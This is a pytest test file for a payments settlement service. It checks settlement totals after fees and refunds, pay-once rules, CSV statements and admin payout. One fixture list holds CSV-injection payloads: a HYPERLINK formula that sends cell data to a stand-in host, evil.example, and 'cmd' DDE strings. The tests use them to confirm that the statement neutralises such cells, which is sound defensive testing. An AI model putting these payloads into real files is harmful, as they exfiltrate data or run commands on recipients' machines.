"""Daily settlement per payee: due after fees and refunds, a CSV statement, paid once, the ledger intact."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid

import pytest

from payments.settlement.service import BUSINESS_TZ
from tests.helpers import machine_credential, signed
from tests.payments.helpers import paid_order, signed_with_key


async def test_a_payees_day_is_settled_after_fees_and_refunds_and_paid_once(client, services, wechat):
    payee = await machine_credential(
        client, services, ["payments:refund", "settlements:read"], kind="merchant"
    )
    await paid_order(client, services, wechat, payee, amount=10_000)
    _, second = await paid_order(client, services, wechat, payee, amount=5_000)
    refund = await signed_with_key(
        client, payee, f"/api/v1/payments/orders/{second['id']}/refunds", {"amount_fen": 2_000}
    )
    assert refund.status_code == 201
    async with services.pool.acquire() as conn, conn.transaction():
        await services.payments.refunds.settle_pending(conn)
    today = dt.datetime.now(BUSINESS_TZ).date()
    async with services.pool.acquire() as conn, conn.transaction():
        settled = await services.payments.settlement.settle_day(conn, today)
        again = await services.payments.settlement.settle_day(conn, today)
    mine = [s for s in settled if str(s.payee_id) == payee["organisation"]["id"]]
    assert len(mine) == 1 and [s for s in again if s.id == mine[0].id] == mine, (
        "settling twice changes nothing"
    )
    fees = 10_000 * 60 // 10_000 + 5_000 * 60 // 10_000
    fee_back = 30 * 2_000 // 5_000
    settlement = mine[0]
    assert (settlement.gross_fen, settlement.fees_fen, settlement.refunds_fen) == (15_000, fees, 2_000)
    assert settlement.net_fen == 15_000 - fees - (2_000 - fee_back) and settlement.status == "due"

    listed = await signed(client, payee, "GET", f"/api/v1/payments/settlements?date={today.isoformat()}")
    assert listed.status_code == 200 and listed.json()["settlements"][0]["net_fen"] == settlement.net_fen
    statement = await signed(
        client, payee, "GET", f"/api/v1/payments/settlements/{settlement.id}/statement.csv"
    )
    assert statement.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(statement.text)))
    assert rows[0][:3] == ["time", "kind", "out_trade_no"] and len(rows) == 1 + 3 + 1
    assert sum(int(r[8]) for r in rows[1:-1]) == settlement.net_fen == int(rows[-1][8])
    stranger = await machine_credential(client, services, ["settlements:read"], kind="merchant")
    assert (
        await signed(client, stranger, "GET", f"/api/v1/payments/settlements/{settlement.id}/statement.csv")
    ).status_code == 404

    async with services.pool.acquire() as conn, conn.transaction():
        paid = await services.payments.settlement.mark_paid(conn, settlement.id, "ICBC-20261121-0001")
        assert paid.status == "paid"
        assert (
            await services.payments.ledger.balance(conn, f"payee_payable:{payee['organisation']['id']}") == 0
        )
        assert (await services.payments.ledger.check(conn)).ok
    async with services.pool.acquire() as conn:
        with pytest.raises(Exception, match="not due"):
            async with conn.transaction():
                await services.payments.settlement.mark_paid(conn, settlement.id, "again")
    assert uuid.UUID(str(settlement.id))


async def test_operations_list_a_day_and_record_the_payout(client, services, wechat, db):
    from tests.helpers import bearer, staff

    payee = await machine_credential(client, services, ["payments:refund"], kind="department")
    await paid_order(client, services, wechat, payee, amount=3_000)
    today = dt.datetime.now(BUSINESS_TZ).date()
    async with services.pool.acquire() as conn, conn.transaction():
        await services.payments.settlement.settle_day(conn, today)
    admin = await staff(client, services)
    listed = await client.get(f"/api/v1/admin/settlements?date={today.isoformat()}", headers=bearer(admin))
    mine = [s for s in listed.json()["settlements"] if s["payee_id"] == payee["organisation"]["id"]]
    assert mine and mine[0]["status"] == "due"
    paid = await client.post(
        f"/api/v1/admin/settlements/{mine[0]['id']}/paid",
        headers=bearer(admin),
        json={"payout_ref": "BOC-0001"},
    )
    assert paid.status_code == 200 and paid.json()["status"] == "paid"
    again = await client.post(
        f"/api/v1/admin/settlements/{mine[0]['id']}/paid",
        headers=bearer(admin),
        json={"payout_ref": "BOC-0002"},
    )
    assert again.status_code == 409
    assert (
        await db.fetchval(
            "SELECT count(*) FROM audit.events WHERE action = 'admin.settlement_paid' AND target_id = $1",
            mine[0]["id"],
        )
        == 1
    )


# Cells a spreadsheet would run as formulas (OWASP "CSV injection"), as a payer may type them into a subject.
_FORMULAS = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"查看详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


async def _paid_with_subject(client, wechat, payee, subject: str, amount: int) -> dict:
    from tests.helpers import bearer, login

    person = await login(client)
    created = await client.post(
        "/api/v1/payments/orders",
        headers={**bearer(person), "Idempotency-Key": uuid.uuid4().hex},
        json={
            "purpose": "ticket",
            "amount_fen": amount,
            "subject": subject,
            "payee_id": payee["organisation"]["id"],
            "channel": "wechat",
            "method": "jsapi",
            "payer_channel_id": "o-openid-1",
        },
    )
    assert created.status_code == 201, created.text
    order = created.json()
    note = (await wechat.control("POST", f"_sandbox/trades/{order['out_trade_no']}/pay", {"deliver": False}))[
        "notification"
    ]
    ack = await client.post(
        "/api/v1/payments/notify/wechat", content=note["body"], headers={"Content-Type": note["content_type"]}
    )
    assert ack.status_code == 200
    return order  # type: ignore[no-any-return]


async def test_statement_cells_that_look_like_formulas_stay_text_and_amounts_stay_numbers(
    client, services, wechat
):
    payee = await machine_credential(
        client, services, ["payments:refund", "settlements:read"], kind="merchant"
    )
    orders = [await _paid_with_subject(client, wechat, payee, s, 1_000 + i) for i, s in enumerate(_FORMULAS)]
    refund = await signed_with_key(
        client, payee, f"/api/v1/payments/orders/{orders[0]['id']}/refunds", {"amount_fen": 500}
    )
    assert refund.status_code == 201, refund.text
    async with services.pool.acquire() as conn, conn.transaction():
        await services.payments.refunds.settle_pending(conn)
    today = dt.datetime.now(BUSINESS_TZ).date()
    async with services.pool.acquire() as conn, conn.transaction():
        settled = await services.payments.settlement.settle_day(conn, today)
    settlement = next(s for s in settled if str(s.payee_id) == payee["organisation"]["id"])

    statement = await signed(
        client, payee, "GET", f"/api/v1/payments/settlements/{settlement.id}/statement.csv"
    )
    assert statement.status_code == 200, statement.text
    rows = list(csv.reader(io.StringIO(statement.text)))
    lines = rows[1:-1]
    assert sorted(r[4] for r in lines) == sorted(["'" + s for s in _FORMULAS] + ["'" + _FORMULAS[0]])
    for row in rows[1:]:
        # No cell a spreadsheet opens starts a formula...
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row
        assert not any(cell.startswith("-") for cell in row[:6]), row
    # ...while every amount is still a plain integer, the refund's negative ones included.
    amounts = [int(cell) for row in rows[1:] for cell in row[6:9]]
    assert any(a < 0 for a in amounts)
    assert sum(int(r[8]) for r in lines) == settlement.net_fen == int(rows[-1][8])


def test_spreadsheet_text_neutralises_every_formula_start_and_nothing_else():
    from payments.settlement.service import spreadsheet_text

    for cell in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert spreadsheet_text(cell) == "'" + cell
    for cell in ("凤城河夜游", "T20261207-1", "", "1-2", "a=b", " =1"):
        assert spreadsheet_text(cell) == cell


async def test_the_admin_listing_does_what_its_description_says_it_never_settles(client, services, wechat):
    """Issue 14, finding 7: the description promised "settled on first view if not yet", which it never did (and
    a GET an auditor may send must not settle). It now says what it does: a day not settled lists nothing."""
    from tests.helpers import bearer, staff

    payee = await machine_credential(client, services, ["payments:refund"], kind="department")
    await paid_order(client, services, wechat, payee, amount=2_500)
    today = dt.datetime.now(BUSINESS_TZ).date()
    admin = await staff(client, services)
    listed = await client.get(f"/api/v1/admin/settlements?date={today.isoformat()}", headers=bearer(admin))
    assert listed.status_code == 200
    assert [s for s in listed.json()["settlements"] if s["payee_id"] == payee["organisation"]["id"]] == []
    async with services.pool.acquire() as conn:
        assert [
            s
            for s in await services.payments.settlement.for_day(conn, today)
            if str(s.payee_id) == payee["organisation"]["id"]
        ] == [], "viewing settled nothing"
    operation = (await client.get("/schema/openapi.json")).json()["paths"]["/api/v1/admin/settlements"]["get"]
    told = f"{operation['summary']} {operation.get('description', '')}"
    assert "first view" not in told and "Viewing never settles" in told


def test_tzt_settle_names_what_it_needs_instead_of_a_traceback(backing, data_dir):
    """Found beside issue 14's finding 7: `tzt settle` without --date, or with a settlement id that is not one,
    ended in a Python traceback."""
    import os
    import subprocess
    import sys

    env = {**os.environ, **backing.env(), "TZT_DATA_DIR": str(data_dir), "TZT_ENV": "test"}

    def tzt(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "app_backend.composition.cli", "settle", *args],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )

    bare = tzt()
    assert bare.returncode == 2 and "--date" in bare.stderr and "Traceback" not in bare.stderr, bare.stderr
    for args, told in (
        (("--date", "2026-13-01"), "is not a date"),
        (("--pay", "x", "--ref", "r"), "not a settlement id"),
    ):
        wrong = tzt(*args)
        assert wrong.returncode == 2 and told in wrong.stderr and "Traceback" not in wrong.stderr, (
            wrong.stderr
        )
